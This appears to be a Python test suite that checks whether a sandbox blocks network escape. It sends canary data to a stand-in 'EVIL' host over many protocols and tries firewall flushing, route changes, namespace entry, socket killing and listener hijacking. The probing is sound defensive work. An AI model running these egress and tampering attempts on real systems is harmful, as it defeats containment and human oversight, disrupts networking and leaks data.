"""Other protocols than TCP, and what a program may do to its network; also as the sandbox's root."""

import ctypes
import errno
import fcntl
import subprocess

from tries import *


@attempt
def quic():
    return datagram(EVIL, 443, b"\xc0\0\0\0\1" + bytes(1200))


@attempt
def quic_to_an_allowed_name():
    return datagram(WEB_NAME, 443, b"\xc0\0\0\0\1" + bytes(1200))


@attempt
def udp():
    return datagram(EVIL, 4000)


@attempt
def udp_to_the_allowed_address():
    return datagram(WEB, 4000)


@attempt
def udp_six():
    return datagram("2a0f:10::81", 4000, family=socket.AF_INET6)


@attempt
def udp_not_connected():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.sendto(CANARY.encode(), (EVIL, 4000))
        return made.recv(100)


@attempt
def time_protocol():
    return datagram(EVIL, 123, b"\x1b" + bytes(47))


@attempt
def udp_from_the_port_of_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.bind(("0.0.0.0", 53))
        made.sendto(CANARY.encode(), (EVIL, 4000))
        return made.recv(100)


@attempt
def multicast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.sendto(CANARY.encode(), ("239.1.2.3", 4000))
        return made.recv(100)


@attempt
def broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        made.sendto(CANARY.encode(), ("255.255.255.255", 4000))
        return made.recv(100)


def icmp(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as made:
        made.settimeout(2)
        made.sendto(b"\x08\0\xf7\xff\0\0\0\0", (EVIL, 0))
        return made.recv(100)


@attempt
def ping():
    return icmp(socket.SOCK_DGRAM)


@attempt
def raw_ping():
    return icmp(socket.SOCK_RAW)


@attempt
def raw_packets():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as made:
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, socket.inet_aton("10.0.2.100"), socket.inet_aton(EVIL))
        made.sendto(head + struct.pack("!HHHH", 9, 4000, 8, 0), (EVIL, 0))
        return None


@attempt
def frames():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as made:
        made.bind(("lo", 0))
        return made.send(bytes(60))


def of_kind(label, family, kind, protocol):
    def through():
        with socket.socket(family, kind, protocol) as made:
            made.settimeout(2)
            made.connect((EVIL, 80))
            made.send(CANARY.encode())
            return made.recv(100)
    through.__name__ = label
    return through


for name, kind_of, number in (("sctp", socket.SOCK_STREAM, 132), ("dccp", 6, 33), ("udp_lite", socket.SOCK_DGRAM, 136),
                              ("mptcp", socket.SOCK_STREAM, 262)):
    attempt(of_kind(name, socket.AF_INET, kind_of, number))


@attempt
def machine_socket():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as made:
        made.settimeout(2)
        made.connect((2, 9999))
        return "connected"


@attempt
def abstract_sockets_of_the_machine():
    with open("/proc/net/unix", encoding="utf-8") as file:
        names = [line.split()[-1] for line in file if "@" in line]
    return [name for name in names if "machine" in name]


@attempt
def marked():
    """A mark that some rule could make an exception for."""
    for mark in list(range(1, 256)) + [0xC0DE, 0xC07E, 0xFFFFFFFF, 0x434F5645]:
        with socket.socket() as made:
            made.settimeout(1)
            made.setsockopt(socket.SOL_SOCKET, 36, struct.pack("I", mark))
            try:
                made.connect((EVIL, 80))
                made.sendall(get(EVIL_NAME))
                data = made.recv(100)
            except OSError:
                continue
            if b"200" in data[:16]:
                return data
    raise OSError("every mark")


@attempt
def source_route():
    with socket.socket() as made:
        made.settimeout(PATIENCE)
        made.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(WEB) + b"\0")
        made.connect((EVIL, 80))
        made.sendall(get(EVIL_NAME))
        return not_refused(made.recv(4096))


@attempt
def foreign_source():
    with socket.socket() as made:
        made.settimeout(PATIENCE)
        made.setsockopt(socket.IPPROTO_IP, 15, 1)
        made.bind(("44.10.0.1", 0))
        made.connect((EVIL, 80))
        made.sendall(get(EVIL_NAME))
        return not_refused(made.recv(4096))


@attempt
def bound_to_a_device():
    with socket.socket() as made:
        made.settimeout(PATIENCE)
        made.setsockopt(socket.SOL_SOCKET, 25, b"lo\0")
        made.connect((EVIL, 80))
        made.sendall(get(EVIL_NAME))
        return not_refused(made.recv(4096))


def tool(label, *words):
    def through():
        done = subprocess.run(words, capture_output=True, text=True, check=False)
        if done.returncode:
            raise OSError(done.stderr.strip()[:200])
        return "changed"
    through.__name__ = label
    return through


for label, words in (("flush_rules", ("nft", "flush", "ruleset")), ("add_a_table", ("nft", "add", "table", "inet", "mine")),
                     ("iptables", ("iptables", "-t", "nat", "-F")), ("add_a_route", ("ip", "route", "add", "44.10.0.0/16", "dev", "lo")),
                     ("remove_routes", ("ip", "route", "flush", "table", "local")),
                     ("add_an_address", ("ip", "address", "add", "44.10.0.1/24", "dev", "lo")),
                     ("loopback_down", ("ip", "link", "set", "lo", "down")),
                     ("make_a_device", ("ip", "link", "add", "d0", "type", "dummy")),
                     ("make_a_pair", ("ip", "link", "add", "d0", "type", "veth", "peer", "name", "d1", "netns", "1")),
                     ("add_a_rule", ("ip", "rule", "add", "from", "all", "lookup", "99")),
                     ("enter_the_network_of_process_1", ("nsenter", "--net=/proc/1/ns/net", "--target", "1", "true"))):
    attempt(tool(label, *words))


@attempt
def kill_sockets():
    """ss says that it succeeded, whatever it did."""
    subprocess.run(["ss", "-K", "-l"], capture_output=True, check=False)
    if not http(WEB_NAME).startswith(b"HTTP/1.1 200"):
        return "the gateway is gone"
    raise OSError("the gateway still serves")


@attempt
def forwarding():
    with open("/proc/sys/net/ipv4/ip_forward", "w", encoding="utf-8") as file:
        file.write("1")
    return "changed"


@attempt
def open_a_tunnel_device():
    with open("/dev/net/tun", "r+b", buffering=0) as device:
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"t0", 1))
    return "made"


@attempt
def new_network():
    """An empty one has no way out either."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000):
        raise OSError(ctypes.get_errno(), errno.errorcode[ctypes.get_errno()])
    return http(EVIL, name=EVIL_NAME)


@attempt
def steal_the_listener():
    """A listener beside the gateway's own, which would get what others send."""
    with open("/proc/net/tcp", encoding="utf-8") as file:
        ports = [int(line.split()[1].split(":")[1], 16) for line in file if line.split()[3] == "0A"]
    taken = []
    for port in ports:
        for address in ("0.0.0.0", "127.0.0.1"):
            with socket.socket() as made:
                made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                try:
                    made.bind((address, port))
                    made.listen()
                    taken.append(port)
                except OSError:
                    pass
    if taken:
        return taken
    raise OSError("none of them")


@attempt
def listener_by_its_own_address():
    """The gateway's port, asked directly: there is no wanted address then."""
    with open("/proc/net/tcp", encoding="utf-8") as file:
        ports = [int(line.split()[1].split(":")[1], 16) for line in file if line.split()[3] == "0A"]
    for port in ports:
        try:
            data = http("127.0.0.1", port, WEB_NAME)
        except OSError:
            continue
        if b"200" in data[:16]:
            return data
    raise OSError("none answers")


main()
